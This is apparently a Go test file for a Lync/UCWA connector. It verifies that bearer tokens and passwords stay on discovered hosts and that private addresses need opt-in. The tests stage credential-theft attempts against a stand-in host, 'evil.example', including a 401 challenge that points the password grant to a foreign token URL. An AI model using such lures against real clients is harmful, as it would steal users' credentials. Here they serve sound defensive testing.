package ucwa_test

import (
	"context"
	"errors"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/imbridge/imbridge/connectors/lync/ucwa"
	"github.com/imbridge/imbridge/connectors/lync/ucwaemu"
)

// recorder is a server that notes every request's host and Authorization.
type recorder struct {
	mu   sync.Mutex
	seen []string
}

func (r *recorder) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	_ = req.ParseForm()
	r.mu.Lock()
	r.seen = append(r.seen, req.Method+" "+req.URL.Path+" auth="+req.Header.Get("Authorization")+" password="+req.PostForm.Get("password"))
	r.mu.Unlock()
	http.Error(w, "gotcha", http.StatusUnauthorized)
}

func (r *recorder) requests() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.seen...)
}

// withForeignHost sends every request for evil.example to rec instead of
// the emulator.
func withForeignHost(t *testing.T, cfg ucwa.Config, rec *recorder) ucwa.Config {
	evil := httptest.NewTLSServer(rec)
	t.Cleanup(evil.Close)
	tr := cfg.HTTPClient.Transport.(*http.Transport).Clone()
	dial := tr.DialContext
	tr.DialContext = func(ctx context.Context, network, hostport string) (net.Conn, error) {
		if strings.HasPrefix(hostport, "evil.example:") {
			var d net.Dialer
			return d.DialContext(ctx, network, evil.Listener.Addr().String())
		}
		return dial(ctx, network, hostport)
	}
	cfg.HTTPClient = &http.Client{Transport: tr}
	return cfg
}

// Issue 7 item 16: the bearer token never goes to a host the sign-in did
// not discover, whatever absolute href the server hands out.
func TestTokenStaysOnDiscoveredHosts(t *testing.T) {
	t.Parallel()
	e := newEnv(t, nil)
	rec := &recorder{}
	c := e.signedIn(t, withForeignHost(t, e.config(), rec))
	var v map[string]any
	err := c.GetJSON(ctxT(t), "https://evil.example/ucwa/oauth/v1/applications/1/people/bob", &v)
	if !errors.Is(err, ucwa.ErrForeignHost) {
		t.Fatalf("foreign href: %v", err)
	}
	if got := rec.requests(); len(got) != 0 {
		t.Fatalf("the foreign host was contacted: %q", got)
	}
	// The pool the sign-in discovered still works.
	if _, err := c.RefreshApplication(ctxT(t)); err != nil {
		t.Fatal(err)
	}
}

// Issue 7 item 16: a 401 challenge naming a foreign token URL does not get
// the password.
func TestPasswordStaysOnDiscoveredHosts(t *testing.T) {
	t.Parallel()
	e := newEnv(t, func(emu *ucwaemu.Emulator) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, "/oauth/user") && r.Header.Get("Authorization") == "" {
				w.Header().Set("WWW-Authenticate", `MsRtcOAuth href="https://evil.example/WebTicket/oauthtoken",grant_type="password"`)
				http.Error(w, "who are you", http.StatusUnauthorized)
				return
			}
			emu.ServeHTTP(w, r)
		})
	})
	rec := &recorder{}
	c, err := ucwa.New(withForeignHost(t, e.config(), rec))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.SignIn(ctxT(t)); !errors.Is(err, ucwa.ErrForeignHost) || !strings.Contains(err.Error(), "evil.example") {
		t.Fatalf("sign-in with a foreign token URL: %v", err)
	}
	if got := rec.requests(); len(got) != 0 {
		t.Fatalf("the password went to the foreign host: %q", got)
	}
}

// Issue 7 item 16: loopback, link-local and private addresses are refused
// unless the config allows them, with an error saying so, before anything
// is sent.
func TestPrivateAddressesNeedOptIn(t *testing.T) {
	t.Parallel()
	e := newEnv(t, nil)
	cfg := e.config()
	cfg.AllowPrivateAddresses = false
	c, err := ucwa.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	err = c.SignIn(ctxT(t))
	if !errors.Is(err, ucwa.ErrPrivateAddress) || ucwa.IsTransient(err) {
		t.Fatalf("sign-in to 127.0.0.1 without opt-in: %v", err)
	}
	if n := e.emu.Requests(); n != 0 {
		t.Fatalf("the emulator on 127.0.0.1 got %d requests", n)
	}
}
